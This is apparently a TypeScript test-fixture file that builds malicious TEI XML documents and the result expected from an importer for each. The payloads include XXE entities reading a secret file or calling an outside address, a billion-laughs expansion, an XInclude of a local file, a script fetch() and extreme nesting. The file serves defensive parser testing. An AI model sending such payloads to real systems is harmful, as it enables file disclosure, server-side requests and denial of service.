import {
  eitherWay,
  goodWords,
  type HostileFile,
  hostile,
  type Outside,
  read,
  refused,
} from './hostileFile';

const space = 'xmlns="http://www.tei-c.org/ns/1.0"';

function edition(inside: string, doctype = '', head = ''): string {
  return `<?xml version="1.0" encoding="UTF-8"?>${head}${doctype}<TEI ${space}><teiHeader><fileDesc><titleStmt><title>T</title></titleStmt><publicationStmt><p/></publicationStmt><sourceDesc><p/></sourceDesc></fileDesc></teiHeader><text><body><div><p>${goodWords} ${inside}</p></div></body></text></TEI>`;
}

const laughs = Array.from(
  { length: 9 },
  (_, at) => `<!ENTITY l${at + 1} "${`&l${at};`.repeat(10)}">`,
);

/** XML that reads other files, calls out, or grows without end. */
export function hostileEditions(outside: Outside): readonly HostileFile[] {
  return [...reachingOut(outside), ...misshapen()];
}

function reachingOut({ address, secretFile }: Outside): readonly HostileFile[] {
  const unsafe = refused('unsafe-xml');
  return [
    hostile('plain.xml', edition(''), read()),
    hostile(
      'entity-file.xml',
      edition('&x;', `<!DOCTYPE TEI [<!ENTITY x SYSTEM "file://${secretFile}">]>`),
      unsafe,
    ),
    hostile(
      'entity-web.xml',
      edition('&x;', `<!DOCTYPE TEI [<!ENTITY x SYSTEM "${address}">]>`),
      unsafe,
    ),
    hostile(
      'entity-other-root.xml',
      `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file://${secretFile}">]><a>&x;</a>`,
      unsafe,
    ),
    hostile(
      'parameter.xml',
      edition('', `<!DOCTYPE TEI [<!ENTITY % x SYSTEM "${address}"> %x;]>`),
      unsafe,
    ),
    hostile(
      'laughs.xml',
      edition('&l9;', `<!DOCTYPE TEI [<!ENTITY l0 "ha">${laughs.join('')}]>`),
      unsafe,
    ),
    hostile(
      'entity-after-comment.xml',
      edition('&x;', `<!DOCTYPE TEI [<!ENTITY x SYSTEM "${address}">]>`, '<!-- <TEI> --><?a b?>'),
      unsafe,
    ),
    hostile('definition.xml', edition('', `<!DOCTYPE TEI SYSTEM "${address}tei.dtd">`), eitherWay),
    hostile(
      'stylesheet.xml',
      edition('', '', `<?xml-stylesheet type="text/xsl" href="${address}"?>`),
      read(),
    ),
    hostile(
      'include.xml',
      edition(
        `<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="file://${secretFile}"/>`,
      ),
      read(),
    ),
    hostile(
      'foreign-markup.xml',
      edition(
        `<script xmlns="http://www.w3.org/1999/xhtml">fetch("${address}")</script><img xmlns="http://www.w3.org/1999/xhtml" src="${address}"/>`,
      ),
      read(),
    ),
  ];
}

function misshapen(): readonly HostileFile[] {
  const deep = (depth: number) => `${'<hi>'.repeat(depth)}x${'</hi>'.repeat(depth)}`;
  return [
    hostile('nested-245.xml', edition(deep(245)), read()),
    hostile('nested-260.xml', edition(deep(260)), refused('too-complex')),
    hostile('nested-100000.xml', edition(deep(100_000)), refused('too-complex', 'corrupt')),
    hostile('utf-16.xml', utf16(edition('').replace('UTF-8', 'UTF-16')), read()),
    hostile('utf-7.xml', edition('').replace('UTF-8', 'UTF-7'), refused('encoding')),
    hostile('without-words.xml', edition('').replace(/<p>[^<]*<\/p>/, ''), refused('no-text')),
    hostile('not-well-formed.xml', edition('').replace('</p>', ''), refused('corrupt')),
    hostile('cut.xml', edition('').slice(0, -30), refused('corrupt')),
    hostile(
      'drawing.xml',
      '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>',
      refused('unsupported-type'),
    ),
    hostile('feed.xml', '<?xml version="1.0"?><rss version="2.0"/>', refused('unsupported-type')),
    hostile('nothing.xml', '<?xml version="1.0"?>', refused('corrupt')),
  ];
}

function utf16(words: string): Uint8Array {
  return new Uint8Array(Buffer.from(`\ufeff${words}`, 'utf16le'));
}
